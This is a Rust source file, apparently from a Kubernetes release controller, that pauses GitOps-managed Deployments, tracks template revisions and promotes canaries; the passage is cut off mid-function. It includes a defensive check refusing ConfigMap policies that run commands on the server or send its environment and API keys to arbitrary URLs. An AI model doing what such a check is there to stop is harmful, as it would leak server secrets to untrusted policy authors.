//! GitOps-triggered releases: Deployments that opt in with `rampart.dev/policy`, kept
//! paused by rampart so that a pod template Git applies reaches users only through a
//! release.
//!
//! Owns reading the opted-in Deployments (their revision, the policy they point at),
//! pausing them, and writing the release's phase where GitOps tools look (annotations
//! on the Deployment). It must not decide when a release starts or ends: that is the
//! watch loop's (`rampart serve --kubernetes`), and releases run through the same path
//! as any other. Every write is a server-side apply by its own field manager,
//! [`GITOPS_MANAGER`], stating all the fields it owns each time: `spec.paused` and the
//! `rampart.dev/*` status annotations, never a field Git sets.

use std::collections::BTreeMap;
use std::time::Duration;

use k8s_openapi::api::apps::v1::Deployment;
use k8s_openapi::api::core::v1::ConfigMap;
use kube::api::{Api, ListParams, Patch, PatchParams};
use rampart_core::Policy;
use serde_json::{Value, json};

use crate::objects::{self, Readiness};
use crate::{Error, Kubernetes};

/// The opt-in: `CONFIGMAP` or `CONFIGMAP/KEY` (default key `rampart.yaml`), a ConfigMap
/// in the Deployment's namespace holding the policy text.
pub const POLICY: &str = "rampart.dev/policy";
/// The phase of the release of the Deployment's latest revision (see [`Phase`]).
pub const PHASE: &str = "rampart.dev/phase";
/// The id of that release.
pub const RELEASE: &str = "rampart.dev/release";
/// In words: what rampart did or waits for.
pub const MESSAGE: &str = "rampart.dev/message";
/// The revision (pod template hash) the phase is about.
pub const REVISION: &str = "rampart.dev/revision";
/// The revision the running pods are: the last one released (or found at opt-in).
pub const RELEASED_REVISION: &str = "rampart.dev/released-revision";
/// The version of [`RELEASED_REVISION`].
pub const RELEASED_VERSION: &str = "rampart.dev/released-version";
/// A revision whose release rolled back: not released again until Git changes.
pub const REFUSED_REVISION: &str = "rampart.dev/refused-revision";
/// On a canary: the revision of the template it was derived from.
pub const CANARY_REVISION: &str = "rampart.dev/canary-revision";
/// While a promotion rolls out: the version it rolls out. The Helm chart's template
/// lock (a ValidatingAdmissionPolicy, `gitops.lockTemplate`) refuses a change to the
/// pod template while it is there, and the watch loop leaves the Deployment unpaused.
pub const PROMOTING: &str = "rampart.dev/promoting";

/// How often a GitOps write is decided again after it raced another write (409).
const CONFLICT_RETRIES: usize = 8;

/// The field manager of the GitOps fields, apart from `rampart`'s: under server-side
/// apply a manager's fields left out of its next apply are removed, and the adapter's
/// applies to the stable name only the image.
pub const GITOPS_MANAGER: &str = "rampart-gitops";

/// Every annotation [`GITOPS_MANAGER`] owns (all but the user's [`POLICY`]).
const OWNED: &[&str] = &[
    PHASE,
    RELEASE,
    MESSAGE,
    REVISION,
    RELEASED_REVISION,
    RELEASED_VERSION,
    REFUSED_REVISION,
    PROMOTING,
];

/// What `rampart.dev/phase` says. The values are a contract with health checks (the
/// Argo CD Lua in docs/kubernetes.md).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Phase {
    /// The running pods are the latest revision: nothing to release.
    Released,
    /// A release of the latest revision waits for its turn (another release of the
    /// service, a freeze, a release window).
    Waiting,
    /// A release of the latest revision runs; the message says its step.
    Progressing,
    /// The latest revision's release rolled back: the Deployment stays paused on the
    /// previous pods until Git applies another revision.
    Refused,
    /// A human must act: the release halted or escalated, or the opt-in is unusable
    /// (no ConfigMap, an invalid policy, a policy naming another Deployment).
    Failed,
}

impl Phase {
    /// The annotation's value.
    pub fn as_str(self) -> &'static str {
        match self {
            Phase::Released => "released",
            Phase::Waiting => "waiting",
            Phase::Progressing => "progressing",
            Phase::Refused => "refused",
            Phase::Failed => "failed",
        }
    }
}

/// One opted-in Deployment as the watch loop sees it.
#[derive(Clone, Debug)]
pub struct Workload {
    /// Its namespace.
    pub namespace: String,
    /// Its name.
    pub name: String,
    /// The revision of its pod template now: what Git last applied.
    pub revision: String,
    /// Whether rampart keeps it paused already.
    pub paused: bool,
    /// Whether its pods are all the current template (its rollout is complete).
    pub rolled_out: bool,
    /// Why its rollout failed (`ProgressDeadlineExceeded`), when it did: waiting
    /// longer will not complete it.
    pub rollout_failed: Option<String>,
    /// Its `rampart.dev/*` annotations.
    pub annotations: BTreeMap<String, String>,
    /// The policy, or why there is none to use.
    pub policy: Result<WorkloadPolicy, String>,
}

/// What one read of the watched namespaces found.
#[derive(Clone, Debug, Default)]
pub struct Seen {
    /// The opted-in Deployments of the namespaces that were listed.
    pub workloads: Vec<Workload>,
    /// Namespaces that could not be listed, with why: nothing is known of their
    /// Deployments this time (none of their releases is ended for it).
    pub unreadable: Vec<(String, String)>,
}

/// The policy an opted-in Deployment points at, checked to name it.
#[derive(Clone, Debug)]
pub struct WorkloadPolicy {
    /// The policy text, as the ConfigMap holds it.
    pub text: String,
    /// Its service.
    pub service: String,
    /// The version of the current revision: the image's tag (read through
    /// `deploy.kubernetes.image`) and the revision, `TAG+REVISION`, or the revision
    /// alone when the image does not match the template. Unique per revision, so a
    /// release of it is found again after a restart.
    pub version: String,
}

impl Workload {
    /// `namespace/name`.
    pub fn key(&self) -> String {
        format!("{}/{}", self.namespace, self.name)
    }

    /// One of its `rampart.dev/*` annotations.
    pub fn annotation(&self, key: &str) -> Option<&str> {
        self.annotations.get(key).map(String::as_str)
    }
}

/// The revision of a Deployment's pod template: a 64-bit FNV-1a hash of its canonical
/// JSON (keys sorted), 16 hex digits. The API server defaults a template the same way
/// each time, so the same manifest gives the same revision.
pub fn revision(d: &Deployment) -> String {
    let template = d
        .spec
        .as_ref()
        .map(|s| serde_json::to_value(&s.template).unwrap_or(Value::Null))
        .unwrap_or(Value::Null);
    let mut text = String::new();
    canonical(&template, &mut text);
    format!("{:016x}", objects::fnv1a(&text))
}

fn canonical(v: &Value, out: &mut String) {
    match v {
        Value::Object(m) => {
            let sorted: BTreeMap<&String, &Value> = m.iter().collect();
            out.push('{');
            for (i, (k, v)) in sorted.into_iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                out.push_str(&Value::String(k.clone()).to_string());
                out.push(':');
                canonical(v, out);
            }
            out.push('}');
        }
        Value::Array(items) => {
            out.push('[');
            for (i, item) in items.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                canonical(item, out);
            }
            out.push(']');
        }
        other => out.push_str(&other.to_string()),
    }
}

/// Whether `d` opted in to GitOps-triggered releases.
pub fn opted_in(d: &Deployment) -> bool {
    annotations(d).contains_key(POLICY)
}

fn annotations(d: &Deployment) -> BTreeMap<String, String> {
    d.metadata.annotations.clone().unwrap_or_default()
}

/// The body [`GITOPS_MANAGER`] applies to `d`: `spec.paused` and every status
/// annotation, the live values with `changes` on top (an empty value removes one).
/// It carries `d`'s `resourceVersion`, which makes the apply conditional: the API
/// server refuses it (409) when anyone wrote the Deployment since `d` was read, so a
/// decision is never taken on a state that is gone (a template Git applied, a pause).
pub fn gitops_patch(d: &Deployment, paused: bool, changes: &[(&str, &str)]) -> Value {
    let live = annotations(d);
    let mut owned: BTreeMap<&str, String> = OWNED
        .iter()
        .filter_map(|k| live.get(*k).map(|v| (*k, v.clone())))
        .collect();
    for (k, v) in changes {
        if v.is_empty() {
            owned.remove(k);
        } else {
            owned.insert(k, (*v).to_string());
        }
    }
    let mut body = json!({
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {
            "name": d.metadata.name,
            "namespace": d.metadata.namespace,
            "annotations": owned,
        },
        "spec": { "paused": paused },
    });
    if let Some(rv) = &d.metadata.resource_version {
        body["metadata"]["resourceVersion"] = json!(rv);
    }
    body
}

fn is_paused(d: &Deployment) -> bool {
    d.spec.as_ref().and_then(|s| s.paused) == Some(true)
}

/// Writes GitOps fields to Deployment `ns/name`, decided on what was just read:
/// `body_of` gives the body ([`gitops_patch`], conditional on that read) or `None`
/// when there is nothing to write. A write that lost a race with another (409) is
/// decided again on a fresh read. Returns the Deployment as written, or as read when
/// nothing was.
async fn apply_fresh(
    api: &Api<Deployment>,
    ns: &str,
    name: &str,
    action: &str,
    mut body_of: impl FnMut(&Deployment) -> Result<Option<Value>, Error>,
) -> Result<Deployment, Error> {
    let mut raced = 0;
    loop {
        let live = api
            .get_opt(name)
            .await
            .map_err(|source| Error::api(format!("reading Deployment `{name}`"), source))?
            .ok_or_else(|| Error::NotFound {
                kind: "Deployment",
                name: name.to_string(),
                namespace: ns.to_string(),
            })?;
        let Some(body) = body_of(&live)? else {
            return Ok(live);
        };
        match api.patch(name, &patch_params(), &Patch::Apply(&body)).await {
            Ok(written) => return Ok(written),
            Err(kube::Error::Api(s)) if s.code == 409 && raced < CONFLICT_RETRIES => raced += 1,
            Err(source) => {
                return Err(Error::api(format!("{action} Deployment `{name}`"), source));
            }
        }
    }
}

/// Where a paused Deployment's running pods stand: the controller saw the latest spec
/// and every replica it wants is available. Its new template has no pods yet (it is
/// paused), so `updatedReplicas` says nothing here.
pub fn serving(d: &Deployment) -> Readiness {
    let generation = d.metadata.generation.unwrap_or(0);
    let status = d.status.clone().unwrap_or_default();
    let observed = status.observed_generation.unwrap_or(0);
    if observed < generation {
        return Readiness::Waiting(format!(
            "the Deployment controller has not observed generation {generation} yet (at {observed})"
        ));
    }
    let want = objects::replicas(d);
    let available = status.available_replicas.unwrap_or(0);
    if available < want {
        return Readiness::Waiting(format!("{available} of {want} replicas available"));
    }
    Readiness::Ready
}

fn patch_params() -> PatchParams {
    PatchParams::apply(GITOPS_MANAGER).force()
}

/// Makes a canary body (from [`objects::canary`]) run the stable's own template, as
/// Git applied it: the container keeps its image rather than the policy's
/// `{version}`, and the canary records the revision it was derived from, which the
/// promotion checks is still the stable's.
pub fn canary_of_revision(
    body: &mut Value,
    stable: &Deployment,
    container: &str,
    version: &str,
) -> Result<(), Error> {
    // A release Git started names its revision in its version: the template the
    // stable holds now must be that one (Git may have applied another since the
    // release was queued), or the canary would run what nobody asked to release.
    // A version that names no revision (one a person typed, through the API) would
    // be claimed released while the pods run Git's template, whatever that is: the
    // stable's own (nothing rolled out), or one Git applied that the watch releases
    // on its own as well.
    let now = revision(stable);
    let name = stable.metadata.name.as_deref().unwrap_or("?");
    let Some(named) = named_revision(version) else {
        return Err(Error::Shape(format!(
            "Deployment `{name}` opts in to GitOps releases: a release of it runs the template Git applied (revision {now}), so its version names that revision (`TAG+REVISION` or `rev-REVISION`, as the watch names them), and `{version}` names none. Commit the change to Git (the watch releases it), or opt the Deployment out to release versions by image"
        )));
    };
    if !now.starts_with(named) {
        return Err(Error::Shape(format!(
            "Deployment `{name}` holds revision {now} now, not the one release {version} was started for: Git applied another template since, which this release does not run (a release of it follows)"
        )));
    }
    let image = objects::container_image(stable, container)?;
    if let Some(c) = body["spec"]["template"]["spec"]["containers"]
        .as_array_mut()
        .and_then(|cs| cs.iter_mut().find(|c| c["name"] == container))
    {
        c["image"] = json!(image);
    }
    body["metadata"]["annotations"][CANARY_REVISION] = json!(revision(stable));
    Ok(())
}

/// Whether `version` (a GitOps release's) names `revision`: the same template,
/// whatever the policy reads as its tag (an edit of `deploy.kubernetes.image` changes
/// the version Git's template is released under, not the template).
pub fn names_revision(version: &str, revision: &str) -> bool {
    named_revision(version).is_some_and(|r| revision.starts_with(r))
}

/// The revision (or its first characters) a GitOps release's version names: `TAG+REV`
/// or `rev-REV`; `None` for a version a person gave (refused for an opted-in
/// Deployment: see [`canary_of_revision`]).
fn named_revision(version: &str) -> Option<&str> {
    let hex = |r: &str| !r.is_empty() && r.bytes().all(|b| b.is_ascii_hexdigit());
    version
        .rsplit_once('+')
        .map(|(_, r)| r)
        .or_else(|| version.strip_prefix("rev-"))
        .filter(|r| hex(r))
}

// === impl Kubernetes (GitOps mode of a release) ===

impl Kubernetes {
    /// GitOps promotion of the stable: it was paused on the previous pods with Git's
    /// template; it is unpaused so the Deployment controller rolls that template out,
    /// then paused again with the revision recorded as released.
    ///
    /// Only the revision the canary analysed is rolled out: the unpause is conditional
    /// on the Deployment read with that template (a template Git applies after the
    /// read makes it fail and be decided again), and [`PROMOTING`] (the version)
    /// marks the rollout so the chart's template lock refuses Git's applies until it
    /// ends. Without the lock, a template applied during the rollout is seen at the
    /// next read: the promotion fails, saying which pods may run a revision nobody
    /// analysed. Whatever ends it, the Deployment is paused again (unconditionally,
    /// retried), and the revision is recorded as released only afterwards, on a read
    /// that shows every pod on it. A promotion already recorded is done: one resumed
    /// after a crash returns at once, whatever Git applied since.
    pub(crate) async fn promote_gitops(
        &self,
        canary: &Deployment,
        version: &str,
    ) -> Result<Deployment, Error> {
        let name = self.deploy.deployment.clone();
        let ns = self.deploy.namespace.clone();
        let api = self.deployments();
        let derived = canary
            .metadata
            .annotations
            .as_ref()
            .and_then(|a| a.get(CANARY_REVISION))
            .cloned()
            .unwrap_or_default();
        let live = self.deployment(&name).await?;
        if is_paused(&live) && released(&live) == Some((derived.clone(), version.to_string())) {
            return Ok(live);
        }
        let unpaused = apply_fresh(&api, &ns, &name, "unpausing", |live| {
            let now = revision(live);
            if now != derived {
                return Err(Error::Shape(format!(
                    "Deployment `{name}` has revision {now} now, not {derived} as the canary analysed: Git applied another template mid-release, so it is not rolled out"
                )));
            }
            Ok(Some(gitops_patch(live, false, &[(PROMOTING, version)])))
        })
        .await;
        let rolled = match &unpaused {
            Ok(_) => {
                self.poll(
                    &format!("Deployment `{name}`"),
                    self.deploy.ready_timeout,
                    || self.deployment(&name),
                    |d| match revision(d) {
                        now if now != derived => Readiness::Failed(format!(
                            "Git applied revision {now} while the promotion rolled out revision {derived}"
                        )),
                        _ => objects::readiness(d),
                    },
                )
                .await
            }
            Err(_) => Err(Error::Shape(String::new())),
        };
        let paused = self.pause_now(&name).await;
        let paused = match (unpaused, paused) {
            (Err(e), Ok(_)) => return Err(e),
            (_, Err(e)) => {
                return Err(Error::NotReady(format!(
                    "Deployment `{name}` could not be paused again after its promotion ({e}): the Deployment controller rolls out whatever Git applies to it; pause it by hand (`kubectl rollout pause deployment/{name} -n {ns}`)"
                )));
            }
            (Ok(_), Ok(d)) => d,
        };
        let now = revision(&paused);
        if now != derived {
            return Err(Error::NotReady(format!(
                "Git applied revision {now} while the promotion rolled out revision {derived}: Deployment `{name}` is paused again, and some of its pods may run revision {now}, which nobody analysed; a human must look (`kubectl get rs`). The chart's template lock (gitops.lockTemplate) refuses such applies during a promotion"
            )));
        }
        if let Err(e) = rolled {
            return Err(Error::NotReady(format!(
                "{e}: Deployment `{name}` is paused again, its pods a mix of the previous revision and {derived}; a human must look"
            )));
        }
        let record = [
            (RELEASED_REVISION, derived.as_str()),
            (RELEASED_VERSION, version),
            (REFUSED_REVISION, ""),
        ];
        apply_fresh(&api, &ns, &name, "recording the release of", |live| {
            // Decided on what is there now: the same template, every pod on it.
            let now = revision(live);
            if now != derived {
                return Err(Error::NotReady(format!(
                    "Git applied revision {now} just as revision {derived} finished rolling out: Deployment `{name}` is paused, not recorded as released; a human must look"
                )));
            }
            if let Readiness::Waiting(why) | Readiness::Failed(why) = objects::readiness(live) {
                return Err(Error::NotReady(format!(
                    "Deployment `{name}` was paused with its rollout of {derived} incomplete ({why}); not recorded as released"
                )));
            }
            Ok(Some(gitops_patch(live, true, &record)))
        })
        .await
    }

    /// Pauses the stable now and clears [`PROMOTING`]: not conditional (pausing is
    /// always safe), retried every poll for as long as a rollout may take.
    async fn pause_now(&self, name: &str) -> Result<Deployment, Error> {
        let api = self.deployments();
        let mut waited = Duration::ZERO;
        loop {
            let tried = async {
                let live = self.deployment(name).await?;
                let mut body = gitops_patch(&live, true, &[(PROMOTING, "")]);
                if let Some(meta) = body["metadata"].as_object_mut() {
                    meta.remove("resourceVersion");
                }
                api.patch(name, &patch_params(), &Patch::Apply(&body))
                    .await
                    .map_err(|source| Error::api(format!("pausing Deployment `{name}`"), source))
            }
            .await;
            match tried {
                Ok(d) => return Ok(d),
                Err(e) if waited >= self.deploy.ready_timeout => return Err(e),
                Err(e) => {
                    tracing::warn!("{e}; trying again");
                    tokio::time::sleep(self.poll).await;
                    waited += self.poll;
                }
            }
        }
    }
}

/// The revision and version recorded as released on `d`.
fn released(d: &Deployment) -> Option<(String, String)> {
    let a = d.metadata.annotations.as_ref()?;
    Some((
        a.get(RELEASED_REVISION)?.clone(),
        a.get(RELEASED_VERSION)?.clone(),
    ))
}

// === the watch loop's view of the cluster ===

/// The opted-in Deployments of some namespaces, read and written for the watch loop.
///
/// Guarantees: it reads with `list` and `get` only, and writes only
/// [`GITOPS_MANAGER`]'s fields. Assumptions: the policy of a Deployment names it
/// (`deploy.kubernetes.deployment` and `namespace`); one that does not is reported
/// [`Phase::Failed`] and never released.
#[derive(Clone)]
pub struct Watched {
    client: kube::Client,
    namespaces: Vec<String>,
    /// Each service's holder (`namespace/name`) when its namespace was last listed: a
    /// namespace that cannot be listed for a while still holds what it held, and a
    /// newcomer elsewhere does not take it meanwhile.
    holders: std::sync::Arc<std::sync::Mutex<BTreeMap<String, String>>>,
}

impl std::fmt::Debug for Watched {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Watched")
            .field("namespaces", &self.namespaces)
            .finish_non_exhaustive()
    }
}

impl Watched {
    /// The opted-in Deployments of `namespaces` (the client's default namespace when
    /// empty).
    pub fn new(client: kube::Client, namespaces: Vec<String>) -> Watched {
        let namespaces = if namespaces.is_empty() {
            vec![client.default_namespace().to_string()]
        } else {
            namespaces
        };
        Watched {
            client,
            namespaces,
            holders: std::sync::Arc::default(),
        }
    }

    /// Connects as `rampart run` does (kubeconfig, then the service account).
    pub async fn connect(namespaces: Vec<String>) -> Result<Watched, Error> {
        let config = kube::Config::infer()
            .await
            .map_err(|e| Error::Config(e.to_string()))?;
        let client = kube::Client::try_from(config).map_err(|e| Error::Config(e.to_string()))?;
        Ok(Watched::new(client, namespaces))
    }

    /// The client, for the releases the loop starts.
    pub fn client(&self) -> kube::Client {
        self.client.clone()
    }

    /// The namespaces watched.
    pub fn namespaces(&self) -> &[String] {
        &self.namespaces
    }

    fn deployments(&self, ns: &str) -> Api<Deployment> {
        Api::namespaced(self.client.clone(), ns)
    }

    /// Every opted-in Deployment, with its revision and policy, and the namespaces
    /// that could not be listed (no Role there, the API server away): one such
    /// namespace is reported, and the others are still released.
    pub async fn workloads(&self) -> Seen {
        let mut seen = Seen::default();
        for ns in &self.namespaces {
            let list = match self.deployments(ns).list(&ListParams::default()).await {
                Ok(list) => list,
                Err(source) => {
                    let e = Error::api(format!("listing Deployments in `{ns}`"), source);
                    seen.unreadable.push((ns.clone(), e.to_string()));
                    continue;
                }
            };
            for d in list.items.iter().filter(|d| opted_in(d)) {
                seen.workloads.push(self.workload(ns, d).await);
            }
        }
        // One opted-in Deployment per service. The one that holds it already (adopted:
        // rampart keeps it paused) keeps it, so a newcomer naming another team's
        // service cannot stop that team's releases; when none holds it, or several
        // do, none is released.
        let unreadable = |key: &str| {
            seen.unreadable
                .iter()
                .any(|(ns, _)| key.split_once('/').is_some_and(|(n, _)| n == ns))
        };
        let mut holders = self.holders.lock().unwrap_or_else(|p| p.into_inner());
        // A holder whose namespace was listed and that is no longer adopted there
        // (deleted, opted out) holds nothing any more.
        holders.retain(|service, key| {
            unreadable(key)
                || seen.workloads.iter().any(|w| {
                    w.key() == *key
                        && w.annotation(RELEASED_REVISION).is_some()
                        && w.policy.as_ref().is_ok_and(|p| p.service == *service)
                })
        });
        let mut by_service: BTreeMap<String, Vec<(String, bool)>> = BTreeMap::new();
        for w in &seen.workloads {
            if let Ok(p) = &w.policy {
                let adopted = w.annotation(RELEASED_REVISION).is_some();
                by_service
                    .entry(p.service.clone())
                    .or_default()
                    .push((w.key(), adopted));
            }
        }
        for w in &mut seen.workloads {
            let key = w.key();
            let Ok(p) = &w.policy else { continue };
            let others: Vec<&(String, bool)> = by_service[&p.service]
                .iter()
                .filter(|(k, _)| *k != key)
                .collect();
            let holds = w.annotation(RELEASED_REVISION).is_some()
                && !others.iter().any(|(_, adopted)| *adopted);
            if holds {
                holders.insert(p.service.clone(), key.clone());
            } else if let Some(holder) = holders
                .get(&p.service)
                .filter(|h| **h != key && unreadable(h))
            {
                w.policy = Err(format!(
                    "Deployment {holder} held service `{}` when its namespace was last listed, and it cannot be listed now: Deployment {key} does not take the service meanwhile",
                    p.service
                ));
                continue;
            }
            if !others.is_empty() && !holds {
                let others: Vec<&str> = others.iter().map(|(k, _)| k.as_str()).collect();
                w.policy = Err(format!(
                    "the policy's service `{}` is also the service of Deployment {}: releases are queued, locked and recorded by service, so each opted-in Deployment needs a policy with a service of its own",
                    p.service,
                    others.join(", ")
                ));
            }
        }
        seen
    }

    /// Lets go of every Deployment that no longer opts in (its `rampart.dev/policy`
    /// removed, in Git or by hand) but that rampart still holds: it is unpaused, so
    /// the Deployment controller rolls out its template as it would without rampart,
    /// and rampart's annotations are removed. Returns them as `namespace/name`.
    pub async fn let_go(&self) -> Vec<Result<String, Error>> {
        let mut out = Vec::new();
        for ns in &self.namespaces {
            // A namespace that cannot be listed is reported by `workloads`.
            let Ok(list) = self.deployments(ns).list(&ListParams::default()).await else {
                continue;
            };
            for d in list.items.iter().filter(|d| !opted_in(d)) {
                if !annotations(d).contains_key(RELEASED_REVISION) {
                    continue;
                }
                let clear: Vec<(&str, &str)> = OWNED.iter().map(|k| (*k, "")).collect();
                let name = d.metadata.name.clone().unwrap_or_default();
                let done = apply_fresh(&self.deployments(ns), ns, &name, "letting go of", |live| {
                    // Decided again on what is there now: it may have opted in since.
                    Ok((!opted_in(live)).then(|| gitops_patch(live, false, &clear)))
                })
                .await;
                out.push(done.map(|_| format!("{ns}/{name}")));
            }
        }
        out
    }

    async fn workload(&self, ns: &str, d: &Deployment) -> Workload {
        let name = d.metadata.name.clone().unwrap_or_default();
        let annotations: BTreeMap<String, String> = annotations(d)
            .into_iter()
            .filter(|(k, _)| k.starts_with("rampart.dev/"))
            .collect();
        let revision = revision(d);
        let reference = annotations.get(POLICY).cloned().unwrap_or_default();
        // One unreadable policy (a missing ConfigMap, no `get` on it) is that
        // Deployment's problem, reported on it, not every other's.
        let policy = match self.policy_text(ns, &reference).await {
            Ok(Ok(text)) => check_policy(&text, ns, &name, d, &revision),
            Ok(Err(why)) => Err(why),
            Err(e) => Err(e.to_string()),
        };
        Workload {
            namespace: ns.to_string(),
            paused: is_paused(d),
            // Every pod on the template, ready or not (an HPA's new pods are).
            rolled_out: objects::on_template(d),
            rollout_failed: match objects::readiness(d) {
                objects::Readiness::Failed(why) => Some(why),
                _ => None,
            },
            name,
            revision,
            annotations,
            policy,
        }
    }

    /// The policy text `reference` (`CONFIGMAP` or `CONFIGMAP/KEY`) names, or why
    /// there is none.
    async fn policy_text(
        &self,
        ns: &str,
        reference: &str,
    ) -> Result<Result<String, String>, Error> {
        let (map, key) = reference
            .split_once('/')
            .unwrap_or((reference, "rampart.yaml"));
        if map.is_empty() {
            return Ok(Err(format!(
                "`{POLICY}` is empty: name a ConfigMap holding the policy (`NAME` or `NAME/KEY`)"
            )));
        }
        let maps: Api<ConfigMap> = Api::namespaced(self.client.clone(), ns);
        let found = maps
            .get_opt(map)
            .await
            .map_err(|source| Error::api(format!("reading ConfigMap `{map}`"), source))?;
        Ok(
            match found.and_then(|m| m.data).map(|d| d.get(key).cloned()) {
                Some(Some(text)) => Ok(text),
                Some(None) => Err(format!("ConfigMap `{map}` has no key `{key}`")),
                None => Err(format!("ConfigMap `{map}` not found in namespace `{ns}`")),
            },
        )
    }

    /// Pauses `w` (it keeps its running pods) and records, when none is yet, its
    /// current revision as released: what runs when a Deployment opts in is taken as
    /// released, and only later templates go through releases. A stale
    /// [`PROMOTING`] mark (its release is over) goes; a Deployment a promotion
    /// unpaused since `w` was read is left to it.
    pub async fn adopt(&self, w: &Workload, stale_promotion: bool) -> Result<(), Error> {
        let version = w
            .policy
            .as_ref()
            .map(|p| p.version.clone())
            .unwrap_or_else(|_| w.revision.clone());
        let message = "adopted: the running pods are released; rampart keeps the Deployment paused and releases each template Git applies";
        apply_fresh(
            &self.deployments(&w.namespace),
            &w.namespace,
            &w.name,
            "pausing",
            |live| {
                let promoting = annotations(live).contains_key(PROMOTING);
                if promoting && !is_paused(live) && !stale_promotion {
                    return Ok(None);
                }
                let revision = revision(live);
                let mut changes = vec![(PROMOTING, "")];
                if !annotations(live).contains_key(RELEASED_REVISION) {
                    changes.push((RELEASED_REVISION, revision.as_str()));
                    changes.push((RELEASED_VERSION, version.as_str()));
                    changes.push((PHASE, Phase::Released.as_str()));
                    changes.push((REVISION, revision.as_str()));
                    changes.push((MESSAGE, message));
                }
                Ok(Some(gitops_patch(live, true, &changes)))
            },
        )
        .await?;
        Ok(())
    }

    /// Writes the phase of `w`'s latest revision (and `extra` annotations). `paused`
    /// stays as it is now: a promotion unpauses the Deployment while its release runs,
    /// and a report must not stop that rollout half-way, nor undo its pause.
    pub async fn report(
        &self,
        w: &Workload,
        phase: Phase,
        release: &str,
        message: &str,
        extra: &[(&str, &str)],
    ) -> Result<(), Error> {
        let mut changes = vec![
            (PHASE, phase.as_str()),
            (RELEASE, release),
            (MESSAGE, message),
            (REVISION, w.revision.as_str()),
        ];
        changes.extend_from_slice(extra);
        let unchanged = |a: &BTreeMap<String, String>| {
            changes
                .iter()
                .all(|(k, v)| a.get(*k).map(String::as_str).unwrap_or("") == *v)
        };
        if unchanged(&w.annotations) {
            return Ok(());
        }
        apply_fresh(
            &self.deployments(&w.namespace),
            &w.namespace,
            &w.name,
            "writing the phase to",
            |live| {
                if revision(live) != w.revision {
                    // Git moved on since `w` was read: this phase is about a revision
                    // that is gone, and the next tick reports the new one.
                    return Ok(None);
                }
                Ok((!unchanged(&annotations(live)))
                    .then(|| gitops_patch(live, is_paused(live), &changes)))
            },
        )
        .await?;
        Ok(())
    }
}

/// The policy for `d` (`ns/name`), checked to name it, with the version of `revision`.
fn check_policy(
    text: &str,
    ns: &str,
    name: &str,
    d: &Deployment,
    revision: &str,
) -> Result<WorkloadPolicy, String> {
    let policy = Policy::from_yaml(text).map_err(|e| format!("the policy is invalid: {e}"))?;
    let Some((deploy, _)) = policy.kubernetes() else {
        return Err("the policy has no `deploy.kubernetes` and `traffic.kubernetes`".into());
    };
    if deploy.deployment != name || deploy.namespace != ns {
        return Err(format!(
            "the policy releases Deployment `{}/{}`, not `{ns}/{name}`",
            deploy.namespace, deploy.deployment
        ));
    }
    if let Some(context) = &deploy.context {
        return Err(format!(
            "`deploy.kubernetes.context` is `{context}`, but a release Git starts runs on the cluster `rampart serve --kubernetes` watches: remove the field from this policy"
        ));
    }
    let runs = runs_on_the_server(&policy);
    if !runs.is_empty() {
        return Err(format!(
            "a policy from a ConfigMap may not run programs on rampart's server or send its environment: {}; release it with `rampart run` or the API (role deployer) instead",
            runs.join(", ")
        ));
    }
    let image = objects::container_image(d, &deploy.container).map_err(|e| e.to_string())?;
    let version = match deploy.version_of(&image) {
        Some(tag) => format!("{tag}+{}", &revision[..revision.len().min(10)]),
        None => format!("rev-{revision}"),
    };
    if let Some(why) = rampart_core::units::version_problem(&version) {
        return Err(format!("version `{version}`: {why}"));
    }
    Ok(WorkloadPolicy {
        text: text.to_string(),
        service: policy.service.clone(),
        version,
    })
}

/// What a policy would make rampart's server do beyond Kubernetes and metrics
/// queries: run a program (a gate, the migrations, a notification or a metric's
/// command) or read its environment into a request. Anyone who can write a ConfigMap
/// in a watched namespace writes a GitOps policy, so such a policy must come through
/// a caller rampart authenticates instead.
fn runs_on_the_server(policy: &Policy) -> Vec<String> {
    use rampart_core::policy::{
        DATADOG_KEY_VARS, GateCheck, NEWRELIC_KEY_VAR, NEWRELIC_REGIONS, NotifyTarget, QuerySource,
        Secret, cloudwatch_endpoint, datadog_endpoint, newrelic_endpoint,
    };
    let mut found = Vec::new();
    // Gates, a blue-green preview's checks and the post-release checks: the same forms.
    let checks = [
        ("gates.pre".to_string(), &policy.gates.pre[..]),
        (
            format!("strategy.{}.preview", policy.strategy.name()),
            policy.strategy.preview(),
        ),
        (
            "post_release.checks".to_string(),
            policy
                .post_release
                .as_ref()
                .map_or(&[][..], |p| &p.checks[..]),
        ),
    ];
    for (path, list) in checks {
        for (i, g) in list.iter().enumerate() {
            match &g.check {
                GateCheck::Command { .. } => found.push(format!("{path}[{i}] runs a command")),
                GateCheck::Env(_) => found.push(format!("{path}[{i}] reads the environment")),
                GateCheck::Http { .. } => {}
            }
        }
    }
    if policy.migrations.is_some() {
        found.push("migrations runs a command".to_string());
    }
    for (i, hook) in policy.notify.iter().enumerate() {
        match &hook.target {
            NotifyTarget::Command(_) => found.push(format!("notify[{i}] runs a command")),
            NotifyTarget::Webhook {
                secret: Some(Secret::Env(_)),
                ..
            }
            | NotifyTarget::Slack {
                url: Secret::Env(_),
                ..
            }
            | NotifyTarget::PagerDuty {
                routing_key: Secret::Env(_),
                ..
            } => found.push(format!("notify[{i}] reads the environment")),
            _ => {}
        }
    }
    for (i, m) in policy.analysis.metrics.iter().enumerate() {
        match m.query.as_ref().map(|q| &q.source) {
            Some(QuerySource::Command(_)) => {
                found.push(format!("analysis.metrics[{i}] runs a command"));
            }
            Some(QuerySource::Http(h)) if !h.env_vars().is_empty() => {
                found.push(format!("analysis.metrics[{i}] sends the environment"));
            }
            _ => {}
        }
    }
    // The providers' keys come from the server's environment: sent anywhere but the
    // provider's own API, or read from variables other than its own, they would carry
    // the server's secrets to whoever wrote the policy.
    if let Some(d) = &policy.analysis.datadog {
        if d.url != datadog_endpoint(&d.site) {
            found.push("analysis.datadog sends its keys to a `url` of its own".to_string());
        }
        if (d.api_key_env.as_str(), d.app_key_env.as_str()) != DATADOG_KEY_VARS {
            found.push("analysis.datadog reads keys from other variables".to_string());
        }
    }
    if let Some(n) = &policy.analysis.newrelic {
        if !NEWRELIC_REGIONS
            .iter()
            .any(|r| newrelic_endpoint(r) == n.url)
        {
            found.push("analysis.newrelic sends its key to a `url` of its own".to_string());
        }
        if n.api_key_env != NEWRELIC_KEY_VAR {
